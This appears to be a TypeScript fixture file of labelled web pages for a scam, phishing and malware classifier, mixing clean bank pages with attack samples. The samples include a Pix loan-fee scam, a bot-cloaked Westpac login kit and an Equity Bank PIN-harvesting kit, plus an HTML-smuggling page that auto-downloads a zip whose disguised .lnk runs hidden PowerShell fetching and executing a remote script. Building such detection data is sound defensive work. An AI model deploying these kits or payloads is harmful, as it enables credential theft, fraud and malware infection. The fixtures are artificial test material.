import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { lnk, zip } from '../parts/x-apps.js';
import { analytics, cookieBar, doc, footer, imgRoute, js, json, qrBlock } from '../parts/x-kit.js';

// Second sweep of the quarter: script-heavy kits, refund / solicitor / investment scams, and more legitimate pages.

const smuggled = zip([{ name: 'Remittance_Advice_0047718.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-nop -w hidden -c "iwr https://cdn-remit-docs.com/r/a.ps1 -UseBasicParsing | iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') }]).toString('base64');

export const entries: Entry[] = [
  {
  id: 'x-scam-pix-qr-taxa-liberacao-br',
  label: 'scam',
  kind: 'qr-payment',
  url: 'https://credito-facil-liberado.com.br-aprova.net/pix/taxa?p=88214',
  body: doc({
    lang: 'pt-BR',
    title: 'Empréstimo aprovado – pague a taxa de liberação',
    css: `body{background:#f0f4f8;font-family:Arial}.c{max-width:400px;margin:24px auto;background:#fff;border-radius:12px;padding:22px;text-align:center}.v{font-size:30px;color:#0a7c3e;font-weight:800}.cp{font-family:monospace;font-size:11px;word-break:break-all;background:#f4f4f4;padding:8px;border-radius:6px}.b{background:#32bcad;color:#fff;border:0;padding:12px 24px;border-radius:24px;font-weight:700}`,
    body: `<div class="c"><h3>✅ Seu empréstimo de R$ 15.000,00 foi APROVADO</h3><p>Parcelas de R$ 412,90 em 48x. Para liberar o valor na sua conta, pague a <b>taxa de liberação e seguro</b> via Pix:</p>
<div class="v">R$ 389,90</div><div style="display:flex;justify-content:center;margin:12px 0">${qrBlock(38990)}</div>
<p>Pix copia e cola:</p><div class="cp" id="cp">00020126580014br.gov.bcb.pix0136a3f9c2e1-77b4-4d1a-9c0e-5b2f8e1d4a6752040000530398654063 89.905802BR5920CF SERVICOS DIGITAIS6009SAO PAULO62070503***6304B14F</div>
<p><button class="b" onclick="navigator.clipboard.writeText(document.getElementById('cp').textContent).then(function(){alert('Código Pix copiado!')})">Copiar código Pix</button></p>
<p style="font-size:12px;color:#666">Após o pagamento o valor cai na sua conta em até 30 minutos. A taxa é reembolsada na primeira parcela. Atendimento via WhatsApp.</p></div>`,
  }),
},
  {
  id: 'x-phish-westpac-json-rendered-cloak',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://westpac-au-secure.help/wbc/banking/',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Loading…</title>
<meta name="robots" content="noindex,nofollow"><style>body{margin:0;font-family:Arial,sans-serif;background:#f3f3f3}#app{min-height:100vh}</style></head>
<body><div id="app"><p style="text-align:center;padding-top:120px;color:#888">Please wait…</p></div>
<script src="/wbc/banking/assets/app.3f9a1c.js"></script></body></html>`,
  routes: {
    'westpac-au-secure.help/wbc/banking/assets/app.3f9a1c.js': js(`(function(){
var bad=/bot|crawl|spider|headless|lighthouse|phantom/i.test(navigator.userAgent)||navigator.webdriver;
if(bad){location.replace('/wbc/banking/404.html');return;}
fetch('/wbc/banking/api/cfg?tz='+encodeURIComponent(Intl.DateTimeFormat().resolvedOptions().timeZone)).then(function(r){return r.json()}).then(function(c){
document.title=c.t;var a=document.getElementById('app');
a.innerHTML='<div style="background:'+c.col+';color:#fff;padding:16px 26px;font-size:22px;font-weight:700">'+c.b+'</div><div style="max-width:430px;margin:30px auto;background:#fff;padding:26px;border-radius:6px"><h2>'+c.h+'</h2><p>'+c.m+'</p><form id="f">'+c.f.map(function(x){return '<label style="display:block;margin-top:12px;font-weight:600">'+x[0]+'</label><input name="'+x[1]+'" type="'+(x[2]||'text')+'" style="width:100%;padding:11px;border:1px solid #999;margin-top:5px">'}).join('')+'<button style="margin-top:18px;width:100%;padding:13px;background:'+c.col+';color:#fff;border:0">Sign in</button></form><p style="font-size:11px;color:#777">'+c.l+'</p></div>';
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch(c.post,{method:'POST',body:new FormData(this)}).then(function(){location.href=c.next})};
});})();`),
    'westpac-au-secure.help/wbc/banking/api/cfg': json({
      t: 'Westpac Online Banking - Sign in',
      b: 'Westpac',
      col: '#d5002b',
      h: 'Sign in to Online Banking',
      m: 'We have detected a sign-in from an unrecognised device. To keep your account open, please verify your identity.',
      f: [['Customer ID', 'cid'], ['Password', 'pw', 'password'], ['Date of birth', 'dob'], ['SMS Security Code', 'sms']],
      l: 'Westpac Banking Corporation ABN 33 007 457 141 AFSL and Australian credit licence 233714.',
      post: '/wbc/banking/api/s',
      next: 'https://www.westpac.com.au/',
    }),
    'westpac-au-secure.help/wbc/banking/api/s': json({ ok: true }),
    'westpac-au-secure.help/wbc/banking/404.html': { status: 404, headers: { 'content-type': 'text/html' }, body: '<!doctype html><title>404 Not Found</title><h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.41 (Ubuntu) Server</address>' },
  },
},
  {
  id: 'x-phish-equity-ke-sms-js-redirect-chain',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://eqty.link-ke.co/u/Xa91',
  routes: {
    'eqty.link-ke.co/u/Xa91': redirectRoute(301, 'https://track-clk-ke.net/c?u=eqb&id=Xa91'),
    'track-clk-ke.net/c': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title></title></head><body><script>var t=['aHR0cHM6Ly9lcXVpdHliYW5rLWtlLWVxdWl0ZWwudmVyaWZ5LW1lbWJlci5jb20vZXF1aXRlbC9sb2dpbi5odG1s'];setTimeout(function(){window.location.replace(atob(t[0]))},600)</script></body></html>`),
    'equitybank-ke-equitel.verify-member.com/equitel/login.html': htmlRoute(doc({
      title: 'Equity Online | Equitel – Verify account',
      css: `body{background:#f6eee8}.h{background:#a32a29;color:#fff;padding:14px 22px;font-weight:700;font-size:20px}.w{max-width:420px;margin:22px auto;background:#fff;padding:22px;border-radius:8px}input{width:100%;padding:11px;border:1px solid #bbb;border-radius:5px;margin:5px 0 12px}button{width:100%;padding:12px;background:#a32a29;color:#fff;border:0;border-radius:5px}`,
      body: `<div class="h">Equity <span style="font-weight:400">Bank</span></div><div class="w"><p>Dear customer, your Equitel / Equity Mobile account has been suspended due to incomplete KYC. Verify now to avoid closure within 24hrs.</p>
<form action="/equitel/verify.php" method="post"><label>Account number</label><input name="acc"><label>Phone number</label><input name="tel" placeholder="07XX"><label>National ID</label><input name="id"><label>Equity Mobile PIN</label><input name="pin" type="password" maxlength="4"><label>ATM card PIN</label><input name="atm" type="password" maxlength="4"><button>Verify</button></form>
<p style="font-size:11px;color:#888">Equity Bank (Kenya) Limited is regulated by the Central Bank of Kenya.</p></div>`,
    })),
    'equitybank-ke-equitel.verify-member.com/equitel/verify.php': htmlRoute('<!doctype html><p>Thank you. You will receive an OTP shortly. Please enter it when our officer calls.</p>'),
  },
},
  {
  id: 'x-malware-remittance-advice-html-smuggling',
  label: 'malware',
  kind: 'invoice-lure',
  url: 'https://docs-remittance-portal.com/view/RA-0047718',
  body: doc({
    title: 'Remittance Advice RA-0047718 – Secure Document',
    css: `body{background:#e9ecef}.c{max-width:480px;margin:60px auto;background:#fff;padding:30px;border-radius:8px;text-align:center;box-shadow:0 2px 12px #0002}.ic{font-size:52px}.bar{height:6px;background:#e9ecef;border-radius:3px;overflow:hidden}.bar i{display:block;height:100%;width:0;background:#0b5ed7;transition:width 2s}`,
    body: `<div class="c"><div class="ic">📄</div><h3>Remittance_Advice_0047718.pdf</h3><p>Payment of <b>£18,460.20</b> has been sent to your account. Your remittance advice is being prepared.</p><div class="bar"><i id="p"></i></div><p id="s" style="font-size:13px;color:#666">Decrypting secure document…</p><p style="font-size:12px;color:#999">If the download doesn't start, <a href="#" id="again">click here</a>. Open the file to view the PDF.</p></div>
<script>
var d='${smuggled}';
function go(){var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var blob=new Blob([u],{type:'application/zip'});var a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download='Remittance_Advice_0047718.zip';document.body.appendChild(a);a.click();document.getElementById('s').textContent='Download complete.'}
setTimeout(function(){document.getElementById('p').style.width='100%'},100);setTimeout(go,2300);document.getElementById('again').onclick=function(e){e.preventDefault();go()};
</script>`,
  }),
},
  {
  id: 'x-clean-revolut-me-payment-link',
  label: 'clean',
  kind: 'payment-request',
  url: 'https://revolut.me/aoifemurph/ireland-trip',
  body: doc({
    title: 'Pay Aoife Murphy | Revolut',
    css: `body{background:#f7f7f7;font-family:Inter,Arial}.c{max-width:400px;margin:50px auto;background:#fff;border-radius:20px;padding:30px;text-align:center}.av{width:64px;height:64px;border-radius:50%;background:#191c1f;color:#fff;display:grid;place-items:center;margin:0 auto;font-weight:700}.amt{font-size:38px;font-weight:700;margin:14px 0}.b{display:block;padding:14px;border-radius:30px;text-decoration:none;font-weight:600;margin:8px 0}`,
    body: `<div class="c"><div class="av">AM</div><h2>Aoife Murphy</h2><p style="color:#717173">@aoifemurph</p><div class="amt">€45</div><p>Cottage in Dingle – my share 🏡</p>
<a class="b" style="background:#191c1f;color:#fff" href="https://revolut.com/app/pay?to=aoifemurph&amount=4500">Pay with Revolut</a><a class="b" style="background:#f0f0f0;color:#191c1f" href="/aoifemurph/ireland-trip/card">Pay with card or Apple Pay</a>
<p style="font-size:12px;color:#8b959e">Only pay people you know. Revolut will never ask you to move money to a safe account.</p></div>
${footer(['Help', 'Terms', 'Privacy'], 'Revolut Bank UAB is licensed and regulated by the European Central Bank and the Bank of Lithuania.', 'color:#8b959e;text-align:center')}`,
  }),
},
  {
  id: 'x-clean-coventry-bs-online-login',
  label: 'clean',
  kind: 'own-login',
  url: 'https://online.coventrybuildingsociety.co.uk/Login/Account',
  body: doc({
    title: 'Log in to online services | Coventry Building Society',
    head: analytics('G-COVBS'),
    css: `.h{background:#004b8d;color:#fff;padding:16px 26px;display:flex;justify-content:space-between}.c{max-width:480px;margin:30px auto;padding:0 18px}input{width:100%;padding:12px;border:1px solid #777;margin:6px 0 14px}.b{background:#e6007e;color:#fff;border:0;padding:12px 32px;border-radius:4px}.n{background:#eef4fa;padding:14px;font-size:14px;border-radius:4px}`,
    body: `<div class="h"><b>Coventry Building Society</b><a href="https://www.coventrybuildingsociety.co.uk/member/help.html">Help</a></div>
<div class="c"><h1>Log in</h1><form method="post" action="/Login/Account"><label>Username</label><input name="Username" autocomplete="username"><label>Password</label><input type="password" name="Password" autocomplete="current-password"><button class="b">Log in</button></form><p><a href="#">Forgotten username or password?</a> · <a href="#">Register</a></p>
<div class="n">We'll text you a one-time passcode to finish logging in. Never share it — we will never ask for it over the phone. Rate changes are always shown in your online account and by letter; we never ask you to "claim" a bonus through a link.</div></div>
${footer(['Accessibility', 'Privacy', 'Cookies', 'Security', 'Complaints'], 'Coventry Building Society. Authorised by the Prudential Regulation Authority and regulated by the Financial Conduct Authority and the Prudential Regulation Authority (FRN 150892). Registered Office: Oak Tree Court, Binley Business Park, Coventry CV3 2UN.')}
${cookieBar('We use cookies to make our website work and improve it.')}`,
  }),
},
  {
  id: 'x-clean-poste-sicurezza-truffe-it',
  label: 'clean',
  kind: 'fraud-awareness',
  url: 'https://www.poste.it/sicurezza-truffe.html',
  body: doc({
    lang: 'it',
    title: 'Sicurezza: come riconoscere e difendersi dalle truffe | Poste Italiane',
    head: analytics('G-POSTEIT'),
    css: `.h{background:#ffeb00;color:#003c8f;padding:14px 24px;font-weight:800}.w{max-width:900px;margin:0 auto;padding:22px}.g{display:grid;grid-template-columns:1fr 1fr;gap:16px}.g div{background:#f3f6fb;padding:14px;border-radius:6px}`,
    body: `<div class="h">Poste<span style="color:#000">italiane</span> · Sicurezza</div>
<div class="w"><h1>Come difendersi dalle truffe</h1><div class="g"><div><h3>Phishing e smishing</h3><p>Poste Italiane non chiede mai tramite email, SMS o telefono i codici della carta Postepay, il PIN o il codice PosteID. Non cliccare su link che segnalano una "carta sospesa".</p></div><div><h3>Vishing</h3><p>Diffida di chi ti chiama fingendosi un operatore o un carabiniere e ti chiede di spostare denaro su un "conto sicuro".</p></div><div><h3>App false</h3><p>Scarica le app di Poste solo dagli store ufficiali.</p></div><div><h3>Segnala</h3><p>Inoltra i messaggi sospetti a <b>antiphishing@posteitaliane.it</b>.</p></div></div></div>
${footer(['Privacy', 'Cookie', 'Accessibilità', 'Note legali'], 'Poste Italiane S.p.A. – Viale Europa 190, 00144 Roma. P.IVA 01114601006.')}`,
  }),
},
  {
  id: 'x-clean-bank-statement-csv-blob-export',
  label: 'clean',
  kind: 'statement-export',
  url: 'https://secure.tsb.co.uk/personal/a/statements/download',
  body: doc({
    title: 'Download transactions | TSB Internet Banking',
    head: analytics('G-TSBIB'),
    css: `.h{background:#003b71;color:#fff;padding:14px 26px;display:flex;justify-content:space-between}.c{max-width:820px;margin:24px auto;padding:0 20px}table{width:100%;border-collapse:collapse;font-size:14px}td,th{padding:8px;border-bottom:1px solid #e2e6ea;text-align:left}select{padding:9px}.b{background:#00a2e0;color:#fff;border:0;padding:11px 22px;border-radius:3px}`,
    body: `<div class="h"><b>TSB</b><span>Spend &amp; Save ••••5521 · <a href="/personal/logout">Log off</a></span></div>
<div class="c"><h1>Download transactions</h1><p>Choose a format and period. Files are generated in your browser from the transactions shown below.</p>
<label>Format <select id="fmt"><option value="csv">CSV (Excel)</option><option value="qif">QIF (Quicken)</option></select></label> <button class="b" id="dl">Download</button>
<table id="t"><tr><th>Date</th><th>Description</th><th>Amount</th><th>Balance</th></tr><tr><td>26/11/2025</td><td>TESCO STORES 2231</td><td>-34.18</td><td>1,204.66</td></tr><tr><td>25/11/2025</td><td>SALARY ACME LTD</td><td>2,140.00</td><td>1,238.84</td></tr><tr><td>24/11/2025</td><td>DD BRITISH GAS</td><td>-86.00</td><td>-901.16</td></tr><tr><td>22/11/2025</td><td>FPO J SMITH RENT</td><td>-750.00</td><td>-815.16</td></tr></table></div>
${footer(['Security', 'Privacy', 'Cookies', 'Accessibility'], 'TSB Bank plc. Registered Office: Henry Duncan House, 120 George Street, Edinburgh EH2 4LH. Registered in Scotland No. SC95237. Authorised by the PRA and regulated by the FCA and the PRA under registration number 191240.')}
<script>
document.getElementById('dl').onclick=function(){var rows=[].slice.call(document.querySelectorAll('#t tr')).map(function(r){return [].map.call(r.cells,function(c){return '"'+c.textContent.replace(/"/g,'""')+'"'}).join(',')});
var blob=new Blob([rows.join('\\r\\n')],{type:'text/csv'});var a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download='TSB_5521_transactions_Nov2025.csv';a.click();setTimeout(function(){URL.revokeObjectURL(a.href)},2000)};
</script>`,
  }),
},
];
